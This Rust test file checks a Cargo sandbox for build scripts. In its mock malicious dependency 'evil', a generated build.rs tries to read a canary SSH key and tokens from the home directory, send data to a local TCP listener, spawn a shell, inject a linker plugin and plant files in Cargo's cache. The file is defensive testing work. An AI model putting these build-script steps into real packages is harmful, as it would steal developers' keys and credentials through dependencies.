//! The consumer grants, the package only asks.
//!
//! A dependency `evil` declares in its `[package.build-sandbox]` everything an
//! attacker would want: a secret in the home directory, a directory outside
//! `OUT_DIR`, a shell, a listener on this machine, code in the linker and an
//! output limit that would let it exhaust Cargo's memory. Each test runs:
//!
//! * **baseline**: without the flag, the script gets all of it;
//! * **sandboxed**: with the runner under test and no configuration, the build
//!   stops before any build script is built, with one error naming every
//!   capability, the grants and the command that approves them; the canary
//!   is nowhere and the listener received nothing;
//! * **control**: after `cargo build-sandbox approve evil`, the approved
//!   capabilities work.

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::path::PathBuf;
use std::time::Duration;

use cargo_test_support::compare::assert_e2e;
use cargo_test_support::{Project, paths, project, str};

use crate::utils::{ProjectExt, assert_canary_absent, per_runner, write_canary};

/// The consumer `foo`, depending on the path package `evil` whose build
/// script runs `body` and whose manifest has `table` as its
/// `[package.build-sandbox]`.
fn consumer_of_evil(version: &str, table: &str, body: &str) -> Project {
    project()
        .file(
            "Cargo.toml",
            r#"
            [package]
            name = "foo"
            version = "0.1.0"
            edition = "2021"
            [dependencies]
            evil = { path = "evil" }
            "#,
        )
        .file("src/lib.rs", "pub use evil::OK;")
        .file("evil/Cargo.toml", &evil_manifest(version, table))
        .file(
            "evil/build.rs",
            &format!(
                r#"
                #[allow(unused_imports)]
                use std::io::Write;
                fn report(attack: &str, result: std::io::Result<String>) {{
                    match result {{
                        Ok(data) => println!("cargo::warning={{attack}}: succeeded: {{}}", data.trim()),
                        Err(e) => println!("cargo::warning={{attack}}: blocked: {{:?}}", e.kind()),
                    }}
                }}
                fn main() {{
                    {body}
                    let out = std::path::PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
                    std::fs::write(out.join("generated.rs"), "pub const OK: bool = true;").unwrap();
                }}
                "#
            ),
        )
        .file(
            "evil/src/lib.rs",
            r#"include!(concat!(env!("OUT_DIR"), "/generated.rs"));"#,
        )
        .build()
}

fn evil_manifest(version: &str, table: &str) -> String {
    format!(
        r#"
        [package]
        name = "evil"
        version = "{version}"
        edition = "2021"
        [package.build-sandbox]
        {table}
        "#
    )
}

/// What `evil` declares and tries, and what receives its loot.
struct Attack {
    secret_dir: PathBuf,
    outside: PathBuf,
    listener: TcpListener,
}

impl Attack {
    fn new() -> Attack {
        let secret_dir = paths::home().join(".ssh");
        write_canary(&secret_dir.join("id_ed25519"), "CANARY-declared");
        let outside = paths::root().join("outside");
        fs::create_dir_all(&outside).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Attack {
            secret_dir,
            outside,
            listener,
        }
    }

    fn address(&self) -> String {
        self.listener.local_addr().unwrap().to_string()
    }

    /// The `[package.build-sandbox]` asking for all of it; `run` only where
    /// the runner can start programs.
    fn table(&self, run: bool) -> String {
        let run = if run { "run = [\"sh\"]\n" } else { "" };
        format!(
            "read = [{secret:?}]\nwrite = [{outside:?}]\n{run}net = [{address:?}]\n\
             linker-plugins = true\nlimits = {{ output = \"1000GB\" }}",
            secret = self.secret_dir,
            outside = self.outside,
            address = self.address(),
        )
    }

    fn body(&self, run: bool) -> String {
        let spawn = if run {
            r#"report("spawn sh", std::process::Command::new("sh").args(["-c", "echo shell ran"])
                .output().map(|o| String::from_utf8_lossy(&o.stdout).into_owned()));"#
        } else {
            ""
        };
        format!(
            r#"
            report("read secret", std::fs::read_to_string({secret:?}));
            report("write outside", std::fs::write({written:?}, "CANARY-written").map(|_| "written".into()));
            report("connect", std::net::TcpStream::connect({address:?})
                .and_then(|mut s| s.write_all(b"CANARY-sent").map(|_| "sent".into())));
            {spawn}
            println!("cargo::rustc-link-arg=-Wl,-plugin,/nonexistent/plugin.so");
            "#,
            secret = self.secret_dir.join("id_ed25519"),
            written = self.outside.join("loot"),
            address = self.address(),
        )
    }

    /// What the listener received since the last call.
    fn received(&self) -> Vec<String> {
        let mut got = Vec::new();
        while let Ok((mut stream, _)) = self.listener.accept() {
            let _ = stream.set_nonblocking(false);
            let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
            let mut data = String::new();
            let _ = stream.read_to_string(&mut data);
            got.push(data);
        }
        got
    }

    fn written(&self) -> bool {
        self.outside.join("loot").exists()
    }
}

/// Whether Cargo built or ran any build script of `p`.
fn any_script_built(p: &Project) -> bool {
    // Scripts for every runner are built in the host's build directory.
    fs::read_dir(p.root().join("target/debug/build"))
        .is_ok_and(|mut entries| entries.next().is_some())
}

fn a_declaration_is_only_a_request(runner: &str) {
    // WASI cannot start programs yet: under `wasmtime` `evil` does not ask.
    let run = runner != "wasmtime";
    let attack = Attack::new();
    let p = consumer_of_evil("1.0.0", &attack.table(run), &attack.body(run));

    // Baseline: without the flag, the script takes what it wants.
    p.cargo("build").run();
    assert!(attack.written());
    assert_eq!(attack.received(), ["CANARY-sent"]);
    fs::remove_file(attack.outside.join("loot")).unwrap();
    p.cargo("clean").run();

    // Sandboxed, with no configuration: one stop before anything is built.
    let output = p
        .cargo_sandboxed(Some(runner), "build")
        .with_status(101)
        .with_stderr_data({
            // The same stop under each runner, but for `run` where it is asked.
            let (note, table) = if run {
                ("`run = [\"sh\"]`, ", "run = [\"sh\"]\n")
            } else {
                ("", "")
            };
            format!(
                r#"[ERROR] build scripts declare capabilities that are not approved
[NOTE] `evil v1.0.0 ([ROOT]/foo/evil)` declares `read = ["[ROOT]/home/.ssh"]`, `write = ["[ROOT]/outside"]`, {note}`net = ["127.0.0.1:[..]"]`, `linker-plugins = true`, `limits = {{ output = "1000GB" }}`
[NOTE] a package's `[package.build-sandbox]` is a request; only the consumer grants
[HELP] to approve them, run `cargo build-sandbox approve evil -Zsandboxed-build-scripts`, or add to `.cargo/config.toml`:

[build-sandbox.allow."evil@1.0.0"]
read = ["[ROOT]/home/.ssh"]
write = ["[ROOT]/outside"]
{table}net = ["127.0.0.1:[..]"]
linker-plugins = true
limits = {{ output = "1000GB" }}
"#
            )
        })
        .run();
    assert_canary_absent(&p, &output, "CANARY-");
    assert!(!any_script_built(&p));
    assert!(!attack.written());
    assert!(attack.received().is_empty());

    // Control: approved by the consumer, the capabilities work.
    p.cargo_sandboxed(Some(runner), "build-sandbox approve evil")
        .with_stderr_data(str![[r#"
    Approved `read = ["[ROOT]/home/.ssh"]`, `write = ["[ROOT]/outside"]`, [..]`linker-plugins = true`, `limits = { output = "1000GB" }` for `evil v1.0.0 ([ROOT]/foo/evil)` in `[ROOT]/foo/.cargo/config.toml`

"#]])
        .run();
    let output = p.cargo_sandboxed(Some(runner), "build").run();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("read secret: succeeded: CANARY-declared"),
        "{stderr}"
    );
    assert!(
        stderr.contains("write outside: succeeded: written"),
        "{stderr}"
    );
    assert!(stderr.contains("connect: succeeded: sent"), "{stderr}");
    if run {
        assert!(
            stderr.contains("spawn sh: succeeded: shell ran"),
            "{stderr}"
        );
    }
    assert!(attack.written());
    assert_eq!(attack.received(), ["CANARY-sent"]);
}

fn a_version_that_declares_more_stops_again(runner: &str) {
    let p = consumer_of_evil("1.0.0", "env = [\"EVIL_A\"]", "");

    p.cargo_sandboxed(Some(runner), "build")
        .with_status(101)
        .with_stderr_data(str![[r#"
[LOCKING] 1 package to latest compatible version
[ERROR] build scripts declare capabilities that are not approved
[NOTE] `evil v1.0.0 ([ROOT]/foo/evil)` declares `env = ["EVIL_A"]`
...
"#]])
        .run();
    p.cargo_sandboxed(Some(runner), "build-sandbox approve --dry-run evil")
        .with_stdout_data(str![[r#"
[build-sandbox.allow."evil@1.0.0"]
env = ["EVIL_A"]

"#]])
        .run();
    assert!(!p.root().join(".cargo/config.toml").exists());
    p.cargo_sandboxed(Some(runner), "build-sandbox approve evil")
        .run();
    p.cargo_sandboxed(Some(runner), "build").run();

    // 1.1.0 asks for one more capability: only that one is named.
    p.change_file(
        "evil/Cargo.toml",
        &evil_manifest("1.1.0", "env = [\"EVIL_A\"]\nclock = true"),
    );
    p.cargo_sandboxed(Some(runner), "build")
        .with_status(101)
        .with_stderr_data(str![[r#"
[LOCKING] 1 package to latest compatible version
[UPDATING] evil v1.0.0 ([ROOT]/foo/evil) -> v1.1.0
[ERROR] build scripts declare capabilities that are not approved
[NOTE] `evil v1.1.0 ([ROOT]/foo/evil)` declares `clock = true`
[NOTE] a package's `[package.build-sandbox]` is a request; only the consumer grants
[HELP] to approve them, run `cargo build-sandbox approve evil -Zsandboxed-build-scripts`, or add to `.cargo/config.toml`:

[build-sandbox.allow."evil@1.1.0"]
clock = true

"#]])
        .run();
    p.cargo_sandboxed(Some(runner), "build-sandbox approve --all")
        .run();
    assert_e2e().eq(
        p.read_file(".cargo/config.toml"),
        str![[r#"
[build-sandbox.allow."evil@1.0.0"]
env = ["EVIL_A"]

[build-sandbox.allow."evil@1.1.0"]
clock = true

"#]],
    );
    p.cargo_sandboxed(Some(runner), "build").run();
    // The report shows what is declared, approved and missing.
    p.cargo_sandboxed(Some(runner), "build-sandbox report")
        .with_stdout_data(str![[r#"
trust: approved (build scripts get what `[build-sandbox.allow]` grants)
evil v1.1.0 (runner `[..]`)
  declared   env [EVIL_A]; clock
  approved   env [EVIL_A]; clock
  missing    -
1 package with a build script: 0 need no grant, 0 presets only, 1 other grants

"#]])
        .run();
}

fn trusting_declarations_is_an_opt_in_that_warns(runner: &str) {
    let secret_dir = paths::home().join("secrets");
    write_canary(&secret_dir.join("token"), "CANARY-trusted");
    let p = consumer_of_evil(
        "1.0.0",
        &format!("read = [{secret_dir:?}]"),
        &format!(
            "report(\"read secret\", std::fs::read_to_string({:?}));",
            secret_dir.join("token")
        ),
    );
    p.change_file(
        ".cargo/config.toml",
        "[build-sandbox]\ntrust = \"declared\"\n",
    );

    p.cargo_sandboxed(Some(runner), "build")
        .with_stderr_data(str![[r#"
[LOCKING] 1 package to latest compatible version
[WARNING] the build scripts of 1 package got capabilities that no `[build-sandbox.allow]` entry approves (`build-sandbox.trust = "declared"`)
[COMPILING] evil v1.0.0 ([ROOT]/foo/evil)
[WARNING] evil@1.0.0: read secret: succeeded: CANARY-trusted
[COMPILING] foo v0.1.0 ([ROOT]/foo)
[FINISHED] `dev` profile [unoptimized + debuginfo] target(s) in [ELAPSED]s

"#]])
        .run();
}

/// A grant may not open the sandbox's own state: Cargo's build directory
/// (which holds the compiled-code cache whose machine code Cargo runs) and
/// Cargo's home.
fn grants_cannot_open_cargos_own_state(runner: &str) {
    let target = paths::root().join("foo/target");
    let cache = target.join("build-sandbox/wasmtime/planted.cwasm");
    let p = consumer_of_evil(
        "1.0.0",
        "",
        &format!(
            r#"report("write cache", std::fs::create_dir_all({dir:?})
                .and_then(|_| std::fs::write({cache:?}, "CANARY-cache")).map(|_| "written".into()));"#,
            dir = cache.parent().unwrap(),
        ),
    );
    p.cargo("generate-lockfile").run();
    for (grant, shown, protected) in [
        ("/".to_owned(), "/", "foo/target"),
        (
            target.display().to_string(),
            "[ROOT]/foo/target",
            "foo/target",
        ),
        (
            paths::cargo_home().join("bin").display().to_string(),
            "[ROOT]/home/.cargo/bin",
            "home/.cargo",
        ),
    ] {
        p.change_file(
            ".cargo/config.toml",
            &format!("[build-sandbox.allow.evil]\nwrite = [{grant:?}]\n"),
        );
        p.cargo_sandboxed(Some(runner), "build")
            .with_status(101)
            .with_stderr_data(format!(
                "\
[ERROR] the build script of `evil v1.0.0 ([ROOT]/foo/evil)` may not be granted `write = [\"{shown}\"]`
[NOTE] it would let the script write `[ROOT]/{protected}`, whose contents Cargo trusts (its build directory, compiled build scripts, or Cargo's home)
[HELP] grant a directory outside it, or none; the script may always write its `OUT_DIR`
"
            ))
            .run();
        assert!(!cache.exists());
    }
    // Control: a directory of its own.
    let own = paths::root().join("generated");
    fs::create_dir_all(&own).unwrap();
    p.change_file(
        ".cargo/config.toml",
        &format!("[build-sandbox.allow.evil]\nwrite = [{own:?}]\n"),
    );
    let output = p.cargo_sandboxed(Some(runner), "build").run();
    assert!(!cache.exists());
    assert_canary_absent(&p, &output, "CANARY-cache");
}

/// A package's limits can only lower the consumer's.
fn declared_limits_only_lower(runner: &str) {
    let p = consumer_of_evil("1.0.0", "limits = { output = \"1KiB\" }", "");

    let policy_line = |p: &Project| {
        let output = p.cargo_sandboxed(Some(runner), "build -v").run();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        let line = stderr
            .lines()
            .find(|line| line.contains("Sandboxing build script of `evil"));
        line.map(str::to_owned).unwrap_or_default()
    };
    let line = policy_line(&p);
    assert!(line.ends_with("; output limit 1KiB"), "{line}");
    p.change_file(
        "evil/Cargo.toml",
        &evil_manifest("1.0.0", "limits = { output = \"1GiB\" }"),
    );
    p.cargo_sandboxed(Some(runner), "build")
        .with_status(101)
        .with_stderr_data(str![[r#"
[ERROR] build scripts declare capabilities that are not approved
[NOTE] `evil v1.0.0 ([ROOT]/foo/evil)` declares `limits = { output = "1GiB" }`
...
"#]])
        .run();
    // The consumer raises it.
    p.change_file(
        ".cargo/config.toml",
        "[build-sandbox.limits]\noutput = \"2GiB\"\n",
    );
    let line = policy_line(&p);
    assert!(line.ends_with("; output limit 1GiB"), "{line}");
}

mod native {
    use super::*;

    per_runner!("native" =>
        a_declaration_is_only_a_request,
        a_version_that_declares_more_stops_again,
        trusting_declarations_is_an_opt_in_that_warns,
        grants_cannot_open_cargos_own_state,
        declared_limits_only_lower,
    );
}

mod wasmtime {
    use super::*;

    per_runner!("wasmtime" =>
        a_declaration_is_only_a_request,
        a_version_that_declares_more_stops_again,
        trusting_declarations_is_an_opt_in_that_warns,
        grants_cannot_open_cargos_own_state,
        declared_limits_only_lower,
    );
}
